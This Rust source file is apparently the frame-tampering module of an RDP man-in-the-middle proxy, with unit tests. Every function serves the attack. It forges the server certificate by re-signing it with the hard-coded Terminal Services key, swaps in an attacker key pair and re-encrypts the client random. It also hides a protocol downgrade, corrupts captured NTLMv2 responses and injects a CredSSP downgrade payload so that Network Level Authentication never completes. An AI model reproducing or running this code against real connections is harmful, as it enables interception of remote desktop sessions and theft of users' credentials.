//! Tamper engine: rewrites frames in flight so the proxied connection keeps
//! working despite the substitutions made during negotiation and the key
//! exchange. Rules are applied in a fixed order, each a no-op unless its
//! pattern matches — `tamper_data(x) == x` whenever nothing matches.

use rdp_mitm_crypto::rsa::{self, KeyPair};
use rdp_mitm_crypto::ts_key::TerminalServicesKey;

use crate::errors::TamperError;
use crate::scan::{find_first, replace_all};
use crate::session::Session;

/// Sign `cert` with the hard-coded Terminal Services key, producing a
/// signature exactly `sign_len` bytes long.
pub fn sign_certificate(cert: &[u8], sign_len: usize) -> Vec<u8> {
    TerminalServicesKey::sign(cert, sign_len)
}

/// Rule 1: once the client random is known, replace the ciphertext the
/// client produced against our forged key with ciphertext against the
/// server's real key, so the server's key exchange still succeeds.
pub fn reencrypt_client_random(bytes: &[u8], session: &Session) -> Vec<u8> {
    if !session.crypto.has_client_rand() || session.crypto.enc_client_rand.is_empty() {
        return bytes.to_vec();
    }
    let Some(real_key) = &session.crypto.server_public_key else {
        return bytes.to_vec();
    };

    let mut reenc = rsa::encrypt(&session.crypto.client_rand, real_key);
    reenc.resize(reenc.len() + 8, 0);

    replace_all(bytes, &session.crypto.enc_client_rand, &reenc)
}

/// Rule 2: generate a fresh key pair matching the server's modulus length,
/// splice its modulus in everywhere the original appeared, and recompute
/// the certificate signature. Verifies the captured signature first —
/// if it doesn't match what we can reproduce, our field offsets are wrong
/// and forwarding a mangled certificate would break the handshake, so the
/// session ends instead.
pub fn replace_server_cert(bytes: &[u8], session: &mut Session) -> Result<Vec<u8>, TamperError> {
    if !session.crypto.has_server_cert() {
        return Ok(bytes.to_vec());
    }

    let mut to_sign = session.crypto.server_first5fields.clone();
    to_sign.extend_from_slice(&session.crypto.server_pubkey_blob);
    let recomputed = sign_certificate(&to_sign, session.crypto.server_sign.len());
    if recomputed != session.crypto.server_sign {
        return Err(TamperError::SignatureMismatch);
    }

    let modulus_bytes = session.crypto.server_modulus.len() - 8;
    let forged = KeyPair::generate(modulus_bytes);
    let new_modulus = rsa::modulus_to_wire_bytes(&forged.public.modulus, modulus_bytes + 8);

    let mut result = replace_all(bytes, &session.crypto.server_modulus, &new_modulus);

    let new_pubkey_blob = replace_all(
        &session.crypto.server_pubkey_blob,
        &session.crypto.server_modulus,
        &new_modulus,
    );
    let mut to_sign = session.crypto.server_first5fields.clone();
    to_sign.extend_from_slice(&new_pubkey_blob);
    let new_sign = sign_certificate(&to_sign, session.crypto.server_sign.len());

    result = replace_all(&result, &session.crypto.server_sign, &new_sign);

    session.crypto.forged_key = Some(forged);
    session.crypto.server_pubkey_blob = new_pubkey_blob;
    session.crypto.server_sign = new_sign;
    session.crypto.server_modulus = new_modulus;

    Ok(result)
}

/// Rule 3: overwrite the echoed (downgraded) protocol byte with the
/// client's original request so the client doesn't see the downgrade.
pub fn hide_forged_protocol_request(bytes: &[u8], rdp_protocol_old: u8) -> Vec<u8> {
    const MARKER: &[u8] = b"McDn";
    let Some(pos) = find_first(bytes, MARKER) else { return bytes.to_vec() };
    let offset = pos + 6;
    if offset >= bytes.len() {
        return bytes.to_vec();
    }
    let mut out = bytes.to_vec();
    out[offset] = rdp_protocol_old;
    out
}

/// Rule 4: only once the negotiated protocol is above Standard Security
/// (`> 2`), flip the first byte of the captured NTLMv2 response wherever it
/// appears, so NTLM authentication fails without the server tearing the
/// connection down in a way that would hide the credentials already
/// captured.
pub fn mangle_nt_response(bytes: &[u8], session: &Session) -> Vec<u8> {
    let Some(rdp_protocol) = session.captured.rdp_protocol else { return bytes.to_vec() };
    if rdp_protocol <= 2 {
        return bytes.to_vec();
    }
    let Some(nt_response) = session.captured.nt_response else { return bytes.to_vec() };

    let mut fake = nt_response;
    fake[0] = ((fake[0] as u16 + 1) % 0xFF) as u8;

    replace_all(bytes, &nt_response, &fake)
}

/// The literal TS_REQUEST error this proxy hands back instead of letting
/// CredSSP complete.
pub const CREDSSP_DOWNGRADE_PAYLOAD: [u8; 15] =
    [0x30, 0x0d, 0xa0, 0x03, 0x02, 0x01, 0x04, 0xa4, 0x06, 0x02, 0x04, 0xc0, 0x00, 0x00, 0x5e];

/// Rule 5: replace a server-side CredSSP TLS record with the downgrade
/// payload above, so NLA never completes and the proxy stays in the loop.
pub fn downgrade_credssp(bytes: &[u8]) -> Vec<u8> {
    if bytes.len() >= 4 && bytes[0] == 0x30 && bytes[2] == 0xa0 && *bytes.last().unwrap() == 0x6d {
        return CREDSSP_DOWNGRADE_PAYLOAD.to_vec();
    }
    bytes.to_vec()
}

/// Run all five tamper rules in order on one direction's frame.
pub fn tamper_data(bytes: &[u8], from_client: bool, session: &mut Session) -> Result<Vec<u8>, TamperError> {
    let mut out = bytes.to_vec();

    out = reencrypt_client_random(&out, session);
    out = replace_server_cert(&out, session)?;
    if let Some(old) = session.captured.rdp_protocol_old {
        out = hide_forged_protocol_request(&out, old);
    }
    out = mangle_nt_response(&out, session);
    if !from_client {
        out = downgrade_credssp(&out);
    }

    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tamper_is_identity_on_non_matching_frame() {
        let mut session = Session::new();
        let bytes = b"plain uninteresting frame".to_vec();
        let out = tamper_data(&bytes, true, &mut session).unwrap();
        assert_eq!(out, bytes);
    }

    #[test]
    fn downgrade_credssp_replaces_matching_frame() {
        let frame = {
            let mut v = vec![0x30u8, 0x11, 0xa0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11];
            v.push(0x6d);
            v
        };
        let out = downgrade_credssp(&frame);
        assert_eq!(out, CREDSSP_DOWNGRADE_PAYLOAD.to_vec());
    }

    #[test]
    fn downgrade_credssp_leaves_non_matching_frame() {
        let frame = vec![0x01, 0x02, 0x03];
        assert_eq!(downgrade_credssp(&frame), frame);
    }

    #[test]
    fn hide_forged_protocol_request_overwrites_single_byte() {
        let mut bytes = b"....McDn......".to_vec();
        let marker_pos = 4;
        bytes[marker_pos + 6] = 0x0b;
        let out = hide_forged_protocol_request(&bytes, 0x03);
        assert_eq!(out[marker_pos + 6], 0x03);
    }
}
